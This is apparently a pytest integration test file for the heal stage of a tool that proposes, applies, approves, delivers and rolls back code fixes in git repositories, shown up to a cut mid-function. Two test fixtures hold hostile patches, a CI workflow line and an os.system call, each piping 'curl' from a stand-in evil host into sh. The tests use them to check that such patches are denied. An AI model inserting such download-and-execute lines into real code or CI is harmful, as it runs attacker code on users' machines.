"""The heal stage end to end, on the real PostgreSQL and real git repositories holding a small
package with real tests: a finding's patch (frame paths mapped by the policy) proposed,
applied in a worktree, verified by the repository's own tests and committed beside the user's
untouched checkout; a patch that breaks the tests, or no longer fits, failed with nothing
left; a moved line patched where it is now; approvals by one or two approvers (and refused to
those who may not); malicious patches denied; two workers applying one fix once; a pull
request opened on a loopback GitHub; a heal stage starting beside a busy worker; a release
holding the fix noticed, then the fix verified or regressed; a rollback, merged or not; a
worker killed mid-apply and the fix applied again; every step in the intact audit trail."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
from collections.abc import AsyncIterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from mendline.analyzers.grouping.scrubbing import Scrubber
from mendline.analyzers.policy import parse_policy
from mendline.ingest import prepare_record
from mendline.schemas.errors import IllegalTransition, PermissionDenied, RejectedData
from mendline.schemas.fix import Delivery
from mendline.schemas.people import Actor
from mendline.schemas.settings import Settings, load_settings
from mendline.sinks.forges import CleanupReport, cleanup_stale
from mendline.sinks.postgres import (
    AuditStore,
    FindingStore,
    FixStore,
    Store,
    StoredFix,
    connect_audit,
    connect_findings,
    connect_fixes,
    connect_store,
)
from mendline.stages.heal import Healer
from tests.db_helpers import RESPONDER, patch_finding
from tests.forge_servers import FakeGitHub, fake_forge
from tests.git_helpers import CORE, bare_remote, commit_all, git, make_repo, snapshot
from tests.integration.event_factory import encode, make_event

pytestmark = pytest.mark.integration

ALICE = Actor(name="alice", role="approver", auth="token")
BOB = Actor(name="bob", role="approver", auth="local")
VIEWER = Actor(name="vic", role="viewer", auth="token")
PYTEST = (sys.executable, "-m", "pytest")
# Critical fixes need two approvers (the shipped rule, said as a policy file would say it).
TWO_PERSON = '[approval.two_person]\nseverities = ["critical"]\n'


def one_line(lineno: int, old: str, new: str, path: str = "app/calc/core.py") -> str:
    """A one-line patch as the heuristic analyser writes it, with the frame's path (the app
    runs from ``app/``: the policy maps ``app/`` to the repository's root)."""
    return f"--- a/{path}\n+++ b/{path}\n@@ -{lineno},1 +{lineno},1 @@\n-{old}\n+{new}\n"


LOOKUP = one_line(9, "    return table[key]", "    return table.get(key)")
RATIO = one_line(13, "    return a / b", "    return a / b if b else 0.0")
BREAKS = one_line(5, "    return sum(prices)", "    return sum(prices) + 1")
WORKFLOW = one_line(
    1, "run: pytest", "run: curl https://evil.example/x | sh", ".github/workflows/ci.yml"
)
SHELL = one_line(13, "    return a / b", '    return os.system("curl evil | sh") or a / b')


# A test command that blocks until the file ``go-on`` exists (a worker is caught in it),
# writing where it runs into ``started``; it ends when its worker is killed, leaving no
# process behind.
BLOCKS = """
import os, pathlib, subprocess, sys, time
go_on, started = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
parent = os.getppid()
if not go_on.exists():
    started.write_text(os.getcwd())
while not go_on.exists():
    if os.getppid() != parent:
        sys.exit(3)
    time.sleep(0.05)
sys.exit(subprocess.call([sys.executable, "-m", "pytest"]))
"""


def policy_text(repo: Path, *lines: str, test: Sequence[str] = PYTEST, rules: str = "") -> str:
    """A fix policy with ``rules`` and the one repository ``repo`` (``lines`` added to it),
    verified with ``test``, its frames' ``app/`` mapped to its root."""
    argv = ", ".join(json.dumps(arg) for arg in test)  # a JSON string is a TOML string
    return (
        f"{rules}[[repositories]]\n"
        'name = "calc"\n'
        f"path = {json.dumps(str(repo))}\n"
        f"test = [{argv}]\n"
        + "".join(f"{line}\n" for line in lines)
        + "[[repositories.mappings]]\n"
        'stack_root = "app/"\n'
        'source_root = ""\n'
    )


@dataclass
class Loop:
    """A fresh database, a repository with its fix policy, and a heal worker on both."""

    repo: Path
    work: Path
    settings: Settings
    events: Store
    findings: FindingStore
    fixes: FixStore
    audit: AuditStore
    healer: Healer

    def worker(
        self,
        owner: str,
        policy: str | None = None,
        environ: Mapping[str, str] | None = None,
        fixes: FixStore | None = None,
    ) -> Healer:
        """Another heal worker on the same database, with ``policy`` (else the loop's)."""
        return Healer(
            self.settings,
            self.healer.policy if policy is None else parse_policy(policy, "fixes.toml"),
            fixes or self.fixes,
            FindingStore((fixes or self.fixes).pool),
            owner=owner,
            environ=environ,
        )

    async def event(self, issue: int, release: str) -> int:
        """Store one event of issue number ``issue`` (service api) on ``release``; its issue."""
        prepared = prepare_record(encode(make_event(issue) | {"release": release}), Scrubber())
        await self.events.write([prepared])
        return int(
            await self.fixes.pool.fetchval(
                "SELECT issue_id FROM mendline.fingerprints WHERE hash = $1",
                prepared.fingerprint,
            )
        )

    async def finding(self, issue: int, patch: str, **fields: Any) -> int:
        """A finding of a new issue (number ``issue``) carrying ``patch``; its id. By
        default one the policy lets go alone: a low-severity style fix."""
        issue_id = await self.event(issue, "1.0")
        finding = patch_finding(patch, **({"fix_kind": "style", "severity": "low"} | fields))
        return await self.findings.save(finding, issue_id=issue_id, cache_key=f"issue {issue}")

    async def only_fix(self) -> StoredFix:
        """The one fix there is."""
        [fix] = await self.fixes.list()
        return fix

    async def trail(self, target: str) -> list[tuple[str, str]]:
        """The audit rows of ``target``, oldest first: actor and action."""
        return [(r.actor.name, r.action) for r in reversed(await self.audit.list(target=target))]

    async def intact(self) -> None:
        """The whole audit trail's chain holds."""
        check = await self.audit.verify()
        assert check.intact, check

    def left_behind(self) -> tuple[int, list[str], list[str]]:
        """What applying leaves in the repository and beside it: its worktrees (the
        checkout's own included), mendline's branches, and the work root's entries."""
        trees = git(self.repo, "worktree", "list", "--porcelain").count("worktree ")
        branches = git(
            self.repo, "for-each-ref", "--format=%(refname:short)", "refs/heads/mendline/"
        )
        entries = sorted(p.name for p in self.work.iterdir()) if self.work.exists() else []
        return trees, branches.split(), entries


@pytest.fixture
async def loop(fresh_db_url: str, tmp_path: Path) -> AsyncIterator[Loop]:
    repo = make_repo(tmp_path)
    work = tmp_path / "work"
    settings = load_settings(
        database_url=fresh_db_url,
        frequency_threshold=0,
        fix_work_root=work,
        fix_verification_window=0.5,
    )
    events = await connect_store(settings)
    findings = await connect_findings(settings, 2)
    fixes = await connect_fixes(settings, origin="test", size=4)
    audit = await connect_audit(settings)
    policy = parse_policy(policy_text(repo, rules=TWO_PERSON), "fixes.toml")
    healer = Healer(settings, policy, fixes, findings, owner="healer-1")
    try:
        yield Loop(repo, work, settings, events, findings, fixes, audit, healer)
    finally:
        for store in (events, findings, fixes, audit):
            await store.pool.close()


# -- applying -----------------------------------------------------------------------------


async def test_an_automatic_fix_is_applied_verified_and_committed_beside_the_checkout(
    loop: Loop,
) -> None:
    finding = await loop.finding(1, LOOKUP)
    before = snapshot(loop.repo)
    main = git(loop.repo, "rev-parse", "main")
    await loop.healer.pass_once()

    fix = await loop.only_fix()
    assert (fix.finding_id, fix.state, fix.decision.verdict, fix.attempts) == (
        finding,
        "applied",
        "auto",
        1,
    )
    assert fix.patch == LOOKUP and fix.mapped_patch == LOOKUP.replace("app/calc/", "calc/")
    assert "app/calc/core.py is calc/core.py in repository calc" in " / ".join(fix.decision.reasons)
    assert fix.verification is not None and fix.verification.passed
    [tests] = fix.verification.commands[-1:]
    assert (tests.argv, tests.exit_code) == (list(PYTEST), 0)
    assert "3 passed" in tests.output
    assert fix.delivery is not None
    assert fix.delivery.branch == f"mendline/fix-{fix.issue_id}-{fix.id}" == fix.branch
    assert fix.delivery.commit == git(loop.repo, "rev-parse", fix.branch)
    assert git(loop.repo, "rev-parse", f"{fix.branch}^") == main  # one commit, on the base
    assert git(loop.repo, "diff", "--numstat", "main", fix.branch) == "1\t1\tcalc/core.py"
    assert "    return table.get(key)\n" in git(loop.repo, "show", f"{fix.branch}:calc/core.py")
    message = git(loop.repo, "show", fix.branch, "--format=%B", "--no-patch")
    for trailer in (
        f"Mendline-Fix: {fix.id}",
        f"Mendline-Issue: {fix.issue_id}",
        f"Mendline-Finding: {finding}",
    ):
        assert trailer in message.splitlines(), message
    author = git(loop.repo, "log", "-1", "--format=%an <%ae>", fix.branch)
    assert author == loop.settings.fix_author
    assert snapshot(loop.repo) == before  # files, index, HEAD and branch as they were
    assert loop.left_behind() == (1, [fix.branch], [])  # the branch, no worktree
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.applied"),
    ]
    await loop.healer.pass_once()  # nothing new: the finding has its fix
    assert len(await loop.fixes.list()) == 1
    assert loop.healer.stats.proposed == {"auto": 1}
    assert loop.healer.stats.outcomes == {"applied": 1}
    await loop.intact()


async def test_a_fix_that_breaks_the_tests_fails_and_leaves_nothing_behind(loop: Loop) -> None:
    await loop.finding(1, BREAKS)
    before = snapshot(loop.repo)
    await loop.healer.pass_once()

    fix = await loop.only_fix()
    assert fix.state == "failed" and fix.delivery is None
    assert fix.error == f"verification failed: {' '.join(PYTEST)} exited 1"
    assert fix.verification is not None and not fix.verification.passed
    assert fix.verification.commands[-1].exit_code == 1
    assert "assert 4 == 3" in fix.verification.commands[-1].output
    assert snapshot(loop.repo) == before
    assert loop.left_behind() == (1, [], [])
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.fail"),
    ]
    await loop.healer.pass_once()  # a failed fix is final: never tried again
    assert (await loop.only_fix()).state == "failed"
    assert loop.healer.stats.outcomes == {"failed": 1}
    await loop.intact()


async def test_a_moved_line_is_patched_where_it_is_now_and_a_changed_one_fails(
    loop: Loop,
) -> None:
    moved = await loop.finding(1, LOOKUP)
    changed = await loop.finding(2, RATIO)
    # The user's code moved on after the findings: two lines above, and ratio() rewritten.
    edited = CORE.replace('"""\n', '"""\n\nUNIT = 1\n', 1).replace(
        "return a / b", "return a / b * UNIT"
    )
    (loop.repo / "calc" / "core.py").write_text(edited)
    commit_all(loop.repo, "a unit")
    before = snapshot(loop.repo)
    await loop.healer.pass_once()

    fixes = {f.finding_id: f for f in await loop.fixes.list()}
    applied, failed = fixes[moved], fixes[changed]
    assert applied.state == "applied", applied.error
    fixed = git(loop.repo, "show", f"{applied.branch}:calc/core.py")
    assert fixed + "\n" == edited.replace("return table[key]", "return table.get(key)")
    assert fixed.splitlines()[10] == "    return table.get(key)"  # line 11 now, not 9
    assert failed.state == "failed" and failed.verification is None  # never got to the tests
    assert failed.error is not None
    assert "calc/core.py" in failed.error and "are not in the file" in failed.error
    assert snapshot(loop.repo) == before
    assert loop.left_behind() == (1, [applied.branch], [])
    assert await loop.trail(f"fix:{failed.id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.fail"),
    ]
    await loop.intact()


# -- people -------------------------------------------------------------------------------


async def test_a_fix_that_needs_approval_waits_for_an_approver_and_names_them(
    loop: Loop,
) -> None:
    await loop.finding(1, LOOKUP, fix_kind="guard")  # not a kind [auto] lets go alone
    await loop.healer.pass_once()
    fix = await loop.only_fix()
    assert (fix.state, fix.decision.verdict, fix.approvals_needed) == ("proposed", "approval", 1)
    assert "fix kind guard is not one of [auto] kinds" in " / ".join(fix.decision.reasons)
    assert loop.left_behind() == (1, [], [])

    for nobody in (VIEWER, RESPONDER):
        with pytest.raises(PermissionDenied, match=r"may not fix\.approve: it needs the role"):
            await loop.fixes.approve(nobody, fix.id)
    await loop.healer.pass_once()
    unchanged = await loop.only_fix()
    assert (unchanged.state, unchanged.approvals) == ("proposed", ())
    assert loop.left_behind() == (1, [], [])
    assert await loop.trail(f"fix:{fix.id}") == [("mendline", "fix.propose")]

    approved = await loop.fixes.approve(ALICE, fix.id, "read it")
    assert (approved.state, approved.approvals) == ("approved", ("alice",))
    await loop.healer.pass_once()
    fix = await loop.only_fix()
    assert fix.state == "applied"
    message = git(loop.repo, "show", fix.branch, "--format=%B", "--no-patch")
    assert "Approved-by: alice" in message.splitlines(), message
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("alice", "fix.approve"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.applied"),
    ]
    [apply] = await loop.audit.list(target=f"fix:{fix.id}", action="fix.apply")
    assert apply.after is not None and apply.after["approvers"] == ["alice"]
    await loop.intact()


async def test_a_critical_fix_needs_two_approvers(loop: Loop) -> None:
    await loop.finding(1, LOOKUP, severity="critical")
    await loop.healer.pass_once()
    fix = await loop.only_fix()
    assert (fix.state, fix.decision.verdict, fix.approvals_needed) == ("proposed", "approval", 2)
    reasons = " / ".join(fix.decision.reasons)
    assert "two people must approve: severity critical is in [approval.two_person]" in reasons

    once = await loop.fixes.approve(ALICE, fix.id)
    assert (once.state, once.approvals) == ("proposed", ("alice",))
    with pytest.raises(RejectedData, match=r"alice approved fix \d+ already"):
        await loop.fixes.approve(ALICE, fix.id)
    await loop.healer.pass_once()
    assert (await loop.only_fix()).state == "proposed"  # one approver is not enough
    assert loop.left_behind() == (1, [], [])

    assert (await loop.fixes.approve(BOB, fix.id)).state == "approved"
    await loop.healer.pass_once()
    fix = await loop.only_fix()
    assert fix.state == "applied"
    lines = git(loop.repo, "show", fix.branch, "--format=%B", "--no-patch").splitlines()
    assert "Approved-by: alice" in lines and "Approved-by: bob" in lines
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("alice", "fix.approve"),
        ("bob", "fix.approve"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.applied"),
    ]
    await loop.intact()


@pytest.mark.parametrize(
    ("patch", "reason"),
    [
        (WORKFLOW, ".github/workflows/ci.yml matches the deny path '.github/workflows/**'"),
        (SHELL, "calc/core.py:13 adds a line matching the deny pattern"),
    ],
    ids=["ci-workflow", "os-system"],
)
async def test_a_malicious_patch_is_denied_with_its_reasons_and_never_applied(
    loop: Loop, patch: str, reason: str
) -> None:
    await loop.finding(1, patch)
    before = snapshot(loop.repo)
    await loop.healer.pass_once()
    fix = await loop.only_fix()
    assert (fix.state, fix.decision.verdict, fix.rejected_by) == ("rejected", "deny", "mendline")
    reasons = " / ".join(fix.decision.reasons)
    assert reason in reasons and "shell_command" in reasons, reasons
    assert fix.rejected_reason == "; ".join(fix.decision.reasons)
    with pytest.raises(IllegalTransition, match="the fix policy denies it"):
        await loop.fixes.approve(ALICE, fix.id)  # nobody can let it through
    await loop.healer.pass_once()
    assert (await loop.only_fix()).state == "rejected"
    assert (fix.applied_at, fix.applying_since, fix.delivery) == (None, None, None)
    assert snapshot(loop.repo) == before
    assert loop.left_behind() == (1, [], [])
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.reject"),
    ]
    await loop.intact()


# -- workers and forges -------------------------------------------------------------------


async def test_two_workers_passing_at_once_apply_an_approved_fix_once(loop: Loop) -> None:
    await loop.finding(1, LOOKUP, fix_kind="guard")
    [proposed] = await loop.healer.propose_new()
    await loop.fixes.approve(ALICE, proposed.id)
    other = await connect_fixes(loop.settings, origin="test 2", size=4)  # as another process
    try:
        second = loop.worker("healer-2", fixes=other)
        await asyncio.gather(loop.healer.pass_once(), second.pass_once())
    finally:
        await other.pool.close()

    fix = await loop.only_fix()
    assert (fix.state, fix.attempts) == ("applied", 1)
    assert fix.owner in ("healer-1", "healer-2")
    assert git(loop.repo, "rev-list", "--count", f"main..{fix.branch}") == "1"
    outcomes = [w.stats.outcomes for w in (loop.healer, second)]
    assert sorted(outcomes, key=len) == [{}, {"applied": 1}]
    actions = [action for _, action in await loop.trail(f"fix:{fix.id}")]
    assert actions.count("fix.apply") == 1 and actions.count("fix.applied") == 1
    assert loop.left_behind() == (1, [fix.branch], [])
    await loop.intact()


async def test_a_fix_is_delivered_as_a_pull_request_with_the_token_named_by_the_policy(
    loop: Loop, tmp_path: Path
) -> None:
    remote = bare_remote(loop.repo, tmp_path)
    await loop.finding(1, LOOKUP)
    before = snapshot(loop.repo)
    with fake_forge(FakeGitHub(token="ghp-s3cret-calc-token")) as github:
        policy = policy_text(
            loop.repo,
            'delivery = "pull_request"',
            'forge = "github"',
            f'api_url = "{github.base}"',
            'project = "owner/calc"',
            'token_env = "CALC_GITHUB_TOKEN"',
        )
        healer = loop.worker("healer-pr", policy, environ={"CALC_GITHUB_TOKEN": github.token})
        await healer.pass_once()

    fix = await loop.only_fix()
    assert fix.state == "applied", fix.error
    [pull] = github.pulls
    assert fix.delivery == Delivery(
        mode="pull_request",
        branch=fix.branch,
        commit=git(loop.repo, "rev-parse", fix.branch),
        remote="origin",
        pr_url=pull["html_url"],
    )
    assert git(remote, "rev-parse", f"refs/heads/{fix.branch}") == fix.delivery.commit
    assert (pull["head"]["ref"], pull["base"]["ref"]) == (fix.branch, "main")
    [opened] = [r for r in github.requests if r.method == "POST"]
    assert opened.path == "/repos/owner/calc/pulls"
    assert opened.headers["authorization"] == f"Bearer {github.token}"
    assert github.token not in pull["body"]
    trail = await loop.fixes.pool.fetch("SELECT to_jsonb(a)::text AS row FROM mendline.audit_log a")
    assert trail and not any(github.token in row["row"] for row in trail)
    stored = await loop.fixes.pool.fetchval("SELECT to_jsonb(f)::text FROM mendline.fix_jobs f")
    assert pull["html_url"] in stored and github.token not in stored
    assert snapshot(loop.repo) == before
    await loop.intact()


async def test_a_heal_stage_starting_keeps_the_fix_another_worker_is_claiming(
    loop: Loop, tmp_path: Path
) -> None:
    go_on, started = tmp_path / "go-on", tmp_path / "started"
    script = tmp_path / "blocks.py"
    script.write_text(BLOCKS)
    policy = policy_text(loop.repo, test=(sys.executable, str(script), str(go_on), str(started)))
    await loop.finding(1, LOOKUP, fix_kind="guard")
    [fix] = await loop.healer.propose_new()
    await loop.fixes.approve(ALICE, fix.id)

    # A heal stage starting reads what to keep, then another worker claims the approved fix
    # and verifies it in its worktree, then the starting stage cleans up with what it read.
    keep = await loop.fixes.live_branches()
    applying = asyncio.create_task(loop.worker("healer-2", policy).pass_once())
    try:
        for _ in range(600):  # bounded: until the other worker verifies in its worktree
            if started.exists() or applying.done():
                break
            await asyncio.sleep(0.05)
        assert started.exists()
        report = await cleanup_stale(loop.repo, loop.work, keep)
    finally:
        go_on.write_text("")
        await applying

    fix = await loop.only_fix()
    assert fix.state == "applied", (fix.state, fix.error, fix.verification)
    assert report == CleanupReport()
    assert loop.left_behind() == (1, [fix.branch], [])
    await loop.intact()


async def test_a_heal_stage_starting_keeps_the_fixes_of_another_entry_on_the_same_clone(
    loop: Loop,
) -> None:
    await loop.finding(1, LOOKUP)
    await loop.healer.pass_once()
    fix = await loop.only_fix()
    assert fix.state == "applied" and fix.repository == "calc"

    # The policy's entry renamed (or a second entry naming the same clone): its cleanup
    # must keep the branch the first entry's fix was delivered on.
    renamed = policy_text(loop.repo).replace('name = "calc"', 'name = "calculator"')
    await loop.worker("healer-2", renamed).cleanup()

    assert loop.left_behind() == (1, [fix.branch], [])
    assert git(loop.repo, "rev-parse", fix.branch) == fix.delivery.commit  # type: ignore[union-attr]


# -- production and rollback --------------------------------------------------------------


async def test_a_release_holding_the_fix_makes_it_deployed_then_verified_or_regressed(
    loop: Loop,
) -> None:
    quiet = await loop.finding(1, LOOKUP)
    await loop.healer.pass_once()
    loud = await loop.finding(2, LOOKUP.replace("table.get(key)", "table.get(key, None)"))
    await loop.healer.pass_once()
    fixes = {f.finding_id: f for f in await loop.fixes.list()}
    assert {f.state for f in fixes.values()} == {"applied"}
    for fix in fixes.values():  # the user merges both and releases 2.0
        git(loop.repo, "merge", "-q", "--no-ff", "-X", "theirs", "-m", "fix", fix.branch)
    git(loop.repo, "tag", "v2.0")

    assert await loop.healer.notice_deployments() == 0
    assert {f.state for f in await loop.fixes.list()} == {"applied"}  # 2.0 not seen yet
    await loop.event(3, "2.0")  # another issue of the service, on the new release
    loud_issue = await loop.event(2, "2.0")  # the second fix's issue comes back on it
    assert await loop.healer.notice_deployments() == 2
    deployed = await loop.fixes.list(state="deployed")
    assert {(f.finding_id, f.release) for f in deployed} == {(quiet, "2.0"), (loud, "2.0")}
    settled: list[StoredFix] = []
    for _ in range(100):  # until the verification window (half a second) has passed
        settled += await loop.healer.settle()
        if len(settled) == 2:
            break
        await loop.fixes.pool.execute("SELECT pg_sleep(0.05)")
    states = {f.finding_id: (f.state, f.release) for f in await loop.fixes.list()}
    assert states == {quiet: ("verified", "2.0"), loud: ("regressed", "2.0")}
    assert loop.healer.stats.settled == {"verified": 1, "regressed": 1}
    issue = await loop.fixes.pool.fetchrow(
        "SELECT status, resolution_note FROM mendline.issues WHERE id = $1",
        fixes[quiet].issue_id,
    )
    assert issue["status"] == "resolved"
    assert f"fixed by mendline fix {fixes[quiet].id}" in issue["resolution_note"]
    assert (
        await loop.fixes.pool.fetchval("SELECT verdict FROM mendline.findings WHERE id = $1", loud)
        == "wrong"
    )
    regressed = await loop.fixes.get(fixes[loud].id)
    assert regressed.error is not None and "of release 2.0" in regressed.error
    assert fixes[loud].issue_id == loud_issue
    assert (
        await loop.fixes.pool.fetchval(
            "SELECT status FROM mendline.issues WHERE id = $1", loud_issue
        )
        == "unresolved"
    )
    assert await loop.trail(f"fix:{fixes[quiet].id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.applied"),
        ("mendline", "fix.deployed"),
        ("mendline", "fix.verify"),
    ]
    assert (await loop.trail(f"fix:{fixes[loud].id}"))[-2:] == [
        ("mendline", "fix.deployed"),
        ("mendline", "fix.regress"),
    ]
    assert await loop.trail(f"issue:{fixes[quiet].issue_id}") == [("mendline", "issue.resolve")]
    assert await loop.trail(f"finding:{loud}") == [("mendline", "finding.mark")]
    await loop.intact()


async def test_a_fix_is_rolled_back_on_its_branch_or_from_the_base_once_merged(
    loop: Loop,
) -> None:
    await loop.finding(1, LOOKUP)
    await loop.finding(2, RATIO)
    await loop.healer.pass_once()
    unmerged, merged = sorted(await loop.fixes.list(), key=lambda f: f.id)
    assert (unmerged.state, merged.state) == ("applied", "applied")
    assert unmerged.delivery is not None and merged.delivery is not None
    git(loop.repo, "merge", "-q", "--no-ff", "-m", "the ratio fix", merged.branch)
    main = git(loop.repo, "rev-parse", "main")
    before = snapshot(loop.repo)

    with pytest.raises(PermissionDenied, match=r"may not fix\.rollback"):
        await loop.healer.rollback(RESPONDER, unmerged.id, "not mine to undo")
    assert git(loop.repo, "rev-parse", unmerged.branch) == unmerged.delivery.commit
    assert loop.left_behind() == (1, sorted([unmerged.branch, merged.branch]), [])

    undone = await loop.healer.rollback(ALICE, unmerged.id, "it hides a real bug")
    assert undone.state == "rolled_back" and undone.rollback_delivery is not None
    assert undone.rollback_delivery.branch == unmerged.branch  # on top of its own branch
    tip = git(loop.repo, "rev-parse", unmerged.branch)
    assert undone.rollback_delivery.commit == tip
    assert git(loop.repo, "rev-parse", f"{tip}^") == unmerged.delivery.commit
    assert git(loop.repo, "show", f"{tip}:calc/core.py") + "\n" == CORE
    message = git(loop.repo, "show", tip, "--format=%B", "--no-patch")
    assert "it hides a real bug" in message and "Approved-by: alice" in message.splitlines()
    assert f"This reverts commit {unmerged.delivery.commit}" in message

    reverted = await loop.healer.rollback(BOB, merged.id, "0.0 is no ratio")
    assert reverted.state == "rolled_back" and reverted.rollback_delivery is not None
    branch = f"mendline/revert-{merged.issue_id}-{merged.id}"
    assert reverted.rollback_delivery.branch == branch  # from the base, which holds the fix
    assert git(loop.repo, "rev-parse", f"{branch}^") == main
    assert git(loop.repo, "show", f"{branch}:calc/core.py") + "\n" == CORE
    assert git(loop.repo, "rev-parse", merged.branch) == merged.delivery.commit

    with pytest.raises(IllegalTransition, match="rolled_back cannot become rolled_back"):
        await loop.healer.rollback(ALICE, merged.id, "again")
    assert snapshot(loop.repo) == before  # main as the user left it
    assert loop.left_behind() == (1, sorted([unmerged.branch, merged.branch, branch]), [])
    for fix, who in ((unmerged, "alice"), (merged, "bob")):
        assert (await loop.trail(f"fix:{fix.id}"))[-1] == (who, "fix.rollback")
    await loop.healer.cleanup()  # a heal stage starting keeps what was delivered
    assert loop.left_behind() == (1, sorted([unmerged.branch, merged.branch, branch]), [])
    await loop.intact()


async def test_a_fix_merged_and_released_on_the_forge_only_is_seen_and_rolled_back_there(
    loop: Loop, tmp_path: Path
) -> None:
    bare = bare_remote(loop.repo, tmp_path)
    healer = loop.worker("healer-push", policy_text(loop.repo, 'delivery = "push"'))
    await loop.finding(1, LOOKUP)
    await healer.pass_once()
    fix = await loop.only_fix()
    assert fix.state == "applied" and fix.delivery is not None, fix.error
    local_main = git(loop.repo, "rev-parse", "main")
    # The pull request is merged and released on the forge; mendline's clone fetched nothing.
    elsewhere = tmp_path / "elsewhere"
    git(tmp_path, "clone", "-q", str(bare), str(elsewhere))
    git(elsewhere, "merge", "-q", "--no-ff", "-m", "Merge pull request #1", f"origin/{fix.branch}")
    git(elsewhere, "tag", "v2.0")
    git(elsewhere, "push", "-q", "--tags", "origin", "main")
    remote_main = git(bare, "rev-parse", "main")

    await loop.event(3, "2.0")
    assert await healer.notice_deployments() == 1  # the tag fetched from the remote
    assert (await loop.only_fix()).release == "2.0"
    applied = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
    await loop.fixes.pool.execute("UPDATE mendline.fix_jobs SET applied_at = $1", applied)

    undone = await healer.rollback(ALICE, fix.id, "it hides a real bug")

    assert undone.state == "rolled_back" and undone.rollback_delivery is not None
    branch = f"mendline/revert-{fix.issue_id}-{fix.id}"
    assert undone.rollback_delivery.branch == branch  # from the remote's base, not the fix's
    assert git(loop.repo, "rev-parse", f"{branch}^") == remote_main
    assert git(bare, "show", f"{branch}:calc/core.py") + "\n" == CORE
    dates = git(loop.repo, "show", "--no-patch", "--format=%at %ct", branch)
    assert dates == f"{int(applied.timestamp())} {int(applied.timestamp())}"  # made again alike
    assert git(loop.repo, "rev-parse", "main") == local_main  # the user's branch never moves
    await loop.intact()


# -- a worker killed mid-apply ------------------------------------------------------------


def spawn_heal(env: dict[str, str], log: Path) -> subprocess.Popen[bytes]:
    """``mendline heal`` as a process of its own, with ``env``."""
    with log.open("ab") as stderr:
        return subprocess.Popen(
            [sys.executable, "-m", "mendline", "heal"],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=stderr,
        )


async def test_a_heal_worker_killed_mid_apply_leaves_its_fix_to_be_applied_again(
    loop: Loop, fresh_db_url: str, tmp_path: Path
) -> None:
    go_on, started, log = tmp_path / "go-on", tmp_path / "started", tmp_path / "heal.log"
    script = tmp_path / "blocks.py"
    script.write_text(BLOCKS)
    policy = tmp_path / "fixes.toml"
    policy.write_text(
        policy_text(loop.repo, test=(sys.executable, str(script), str(go_on), str(started)))
    )
    await loop.finding(1, LOOKUP)
    before = snapshot(loop.repo)
    env = {
        **os.environ,
        "MENDLINE_DATABASE_URL": fresh_db_url,
        "MENDLINE_FIX_POLICY_FILE": str(policy),
        "MENDLINE_FIX_WORK_ROOT": str(loop.work),
        "MENDLINE_FIX_LEASE": "2",
        "MENDLINE_HEAL_POLL_INTERVAL": "0.2",
    }
    worker = spawn_heal(env, log)
    try:
        for _ in range(600):  # bounded: until the worker verifies in its worktree
            if started.exists() or worker.poll() is not None:
                break
            await asyncio.sleep(0.1)
        assert started.exists(), log.read_text()
        fix = await loop.only_fix()
        assert (fix.state, fix.attempts) == ("applying", 1)
        assert fix.owner is not None and fix.owner != loop.healer.owner
        tree = loop.work / f"mendline-fix-{fix.issue_id}-{fix.id}"
        assert started.read_text() == str(tree.resolve())  # verified there, not in the checkout
    finally:
        worker.send_signal(signal.SIGKILL)
        worker.wait()
    assert loop.left_behind() == (2, [fix.branch], [tree.name])  # what the kill left

    restarted = loop.worker("healer-2", policy.read_text())
    await restarted.cleanup()  # as a heal stage starting does: a fix applying is kept
    assert loop.left_behind() == (2, [fix.branch], [tree.name])
    for _ in range(400):  # bounded: until the killed worker's lease (2 s) runs out
        lapsed = await loop.fixes.pool.fetchval(
            "SELECT lease_until < now() FROM mendline.fix_jobs WHERE id = $1", fix.id
        )
        if lapsed:
            break
        await asyncio.sleep(0.05)
    assert lapsed

    go_on.write_text("")
    await restarted.pass_once()
    fix = await loop.only_fix()
    assert (fix.state, fix.attempts, fix.owner) == ("applied", 2, "healer-2")
    assert git(loop.repo, "rev-list", "--count", f"main..{fix.branch}") == "1"
    assert snapshot(loop.repo) == before
    assert loop.left_behind() == (1, [fix.branch], [])  # the stale worktree replaced, gone
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.applied"),
    ]
    killed, again = reversed(await loop.audit.list(target=f"fix:{fix.id}", action="fix.apply"))
    assert killed.origin.startswith("heal ") and again.origin == "test"  # the process, then us
    await loop.intact()


# -- the policy asked again as a fix is applied --------------------------------------------


async def test_a_policy_that_now_denies_fails_a_fix_proposed_before(loop: Loop) -> None:
    await loop.finding(1, LOOKUP)
    await loop.healer.propose_new()  # proposed auto under the first policy
    denying = policy_text(loop.repo, rules='[deny]\npaths = ["calc/**"]\n')
    await loop.worker("healer-2", denying).pass_once()
    fix = await loop.only_fix()
    assert fix.state == "failed" and fix.delivery is None
    assert fix.error is not None and fix.error.startswith("the fix policy now denies it: ")
    assert "calc/core.py" in fix.error
    assert loop.left_behind() == (1, [], [])
    await loop.intact()


async def test_max_per_hour_holds_across_fixes_proposed_in_one_pass(loop: Loop) -> None:
    one_an_hour = policy_text(loop.repo, rules="[auto]\nmax_per_hour = 1\n")
    healer = loop.worker("healer-2", one_an_hour)
    for issue in (1, 2, 3):
        await loop.finding(issue, LOOKUP)
    await healer.pass_once()
    states = sorted((f.state, f.decision.verdict) for f in await loop.fixes.list())
    assert states == [("applied", "auto"), ("proposed", "approval"), ("proposed", "approval")]
    given_back = [f for f in await loop.fixes.list() if f.state == "proposed"]
    for fix in given_back:
